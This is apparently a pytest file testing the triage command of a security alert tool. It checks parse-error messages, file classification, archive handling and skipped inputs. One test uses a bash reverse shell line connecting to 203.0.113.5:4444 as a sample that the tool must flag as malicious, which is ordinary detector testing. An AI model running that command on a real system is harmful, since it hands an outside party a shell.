"""triage: which inputs are judged as what, and what is said of those that are not."""

import io
import json
from pathlib import Path

import pytest

from tests.cli.conftest import Commands
from tests.cli.samples import ROW, alerts, analyses
from tests.sources.archives import zipped


@pytest.mark.parametrize(
    ("text", "line", "told"),
    [
        ('{"a": 1,\n "b": {"c":\n', 3, "ends in the middle of a value"),
        ('[{"a": 1},\n {"a": 2}\n', 3, "ends in the middle of a value, line 3 column 1"),
        ('{"a": 1,\n "b" 2}\n', 2, "Expecting ':' delimiter, line 2 column 6"),
        ('{"alert": {"severity": "high",\n "timestamp": "2026-11-01T00:00:00Z"\n "host": 1}}', 1, "line 3 column 2"),
    ],
)
def test_broken_json_is_told_with_file_line_and_reason(
    secassist: Commands, inbox: Path, text: str, line: int, told: str
) -> None:
    path = inbox / "alert.json"
    path.write_text(text)
    ran = secassist("triage", path)
    assert ran.code == 3
    assert f"{path}:{line}: " in ran.err
    assert told in ran.err


@pytest.mark.parametrize("text", ["[section]\nkey = value\n", "{% if x %}\n", "just words\n", '{"note": "whole"}'])
def test_other_texts_are_not_called_broken_json(secassist: Commands, inbox: Path, text: str) -> None:
    (inbox / "notes.txt").write_text(text)
    ran = secassist("triage", inbox / "notes.txt")
    assert "JSON" not in ran.err


def test_an_unknown_source_names_the_nearest(secassist: Commands, inbox: Path) -> None:
    ran = secassist("triage", alerts(inbox), "--source", "cloudtrial")
    assert ran.code == 2
    assert "no input format is named 'cloudtrial'; did you mean cloudtrail?" in ran.err


@pytest.mark.parametrize(
    ("words", "said"),
    [(("triage",), "no files are there to read"), (("scan", "--fast"), "nothing is there to scan")],
)
def test_an_empty_folder_is_said_to_be_empty(
    secassist: Commands, inbox: Path, words: tuple[str, ...], said: str
) -> None:
    ran = secassist(*words, inbox)
    assert ran.code == 0
    assert said in ran.err


@pytest.mark.parametrize(
    ("name", "text", "kind"),
    [
        ("record.json", '{"Operation": "FileAccessed", "Workload": "SharePoint"}', "alert"),
        ("typed.txt", "kubectl get pods -n shop", "alert"),
        ("lines.txt", "first thing happened\nsecond thing happened\n", "log_window"),
        ("probe.txt", "GET /a?b=1 HTTP/1.1\nHost: shop.example\n\n", "alert"),
        ("run.ps1", "Get-Process | Stop-Process", "alert"),
        ("audit.txt", "type=USER_CMD msg=audit(1763.1:8): uid=0 res=success\n", "log_window"),
    ],
)
def test_whoever_names_a_file_gets_it_judged(secassist: Commands, inbox: Path, name: str, text: str, kind: str) -> None:
    (inbox / name).write_text(text)
    ran = secassist("triage", inbox / name, "--json")
    (found,) = [json.loads(line) for line in ran.out.splitlines()]
    assert found["subject_kind"] == kind
    assert found["verdict"] is not None


@pytest.mark.parametrize("name", ["job.sh", "job", "-"])
def test_a_shell_script_is_held_against_rules_about_command_lines(
    secassist: Commands, inbox: Path, monkeypatch: pytest.MonkeyPatch, name: str
) -> None:
    text = "#!/bin/bash\ncd /tmp\nbash -i >& /dev/tcp/203.0.113.5/4444 0>&1\n"
    (inbox / "job").write_text(text)
    (inbox / "job.sh").write_text(text)
    monkeypatch.setattr("sys.stdin", io.TextIOWrapper(io.BytesIO(text.encode())))
    ran = secassist("triage", "-" if name == "-" else inbox / name, "--json")
    (found,) = analyses(ran.out)
    assert found.verdict is not None
    assert found.verdict.floor is not None
    assert found.verdict.disposition.is_bad


@pytest.mark.parametrize(("name", "told"), [("x.sh", "name the file"), ("x.txt", "name the file"), ("x.py", "scan")])
def test_what_a_folder_holds_beside_alerts_is_skipped_with_what_to_do(
    secassist: Commands, inbox: Path, name: str, told: str
) -> None:
    (inbox / name).write_text("import os\n")
    ran = secassist("triage", inbox)
    assert ran.code == 0
    assert f"skipped: {inbox / name}" in ran.err
    assert told in ran.err


def test_what_an_archive_holds_is_judged_as_files_of_their_own_are(secassist: Commands, inbox: Path) -> None:
    logon = {"Event": {"System": {"EventID": 4624, "Channel": "Security"}, "EventData": {"TargetUserName": "ana"}}}
    members = {
        "day/alerts.jsonl": json.dumps(ROW).encode() + b"\n{broken\n" + json.dumps(ROW | {"n": 1}).encode(),
        "logon.json": json.dumps(logon).encode(),
        "app.log": b"first thing happened\nsecond thing happened\n",
        "alerts.log": json.dumps(ROW | {"n": 3}).encode() + b"\n" + json.dumps(ROW | {"n": 4}).encode(),
        "notes.md": b"# Notes\n\nNothing here.\n",
        "run.py": b"import os\n",
        "inner.zip": zipped({"one.json": json.dumps(ROW | {"n": 2}).encode()}),
    }
    path = inbox / "day.zip"
    path.write_bytes(zipped(members))
    ran = secassist("triage", path, "--json")
    assert [each.origin.partition("!")[2] for each in analyses(ran.out)] == [
        "day/alerts.jsonl:1",
        "day/alerts.jsonl:3",
        "logon.json:1",
        "app.log:1",
        "alerts.log:1",
        "alerts.log:2",
        "inner.zip!one.json:1",
    ]
    assert f"not read: {path}!day/alerts.jsonl:2: not valid JSON" in ran.err
    assert all(f"skipped: {path}!{name}: " in ran.err for name in ("notes.md", "run.py"))
    assert "unpack it and name the file" in ran.err
    assert ran.code == 3
    (inbox / "logon.json").write_bytes(members["logon.json"])
    (alone,) = analyses(secassist("triage", inbox / "logon.json", "--json").out)
    assert alone.subject_id == analyses(ran.out)[2].subject_id


@pytest.mark.parametrize("text", ["[]", " [\n]\n", "{ }"])
def test_no_record_is_nothing_to_judge(secassist: Commands, inbox: Path, text: str) -> None:
    (inbox / "none.json").write_text(text)
    ran = secassist("triage", inbox / "none.json")
    assert ran.code == 0
    assert "skipped" in ran.err and "holds no record" in ran.err


def test_other_code_is_left_to_scan(secassist: Commands, inbox: Path) -> None:
    (inbox / "app.py").write_text("import os\n")
    ran = secassist("triage", inbox / "app.py")
    assert ran.code == 3
    assert "use `secassist scan` for it" in ran.err
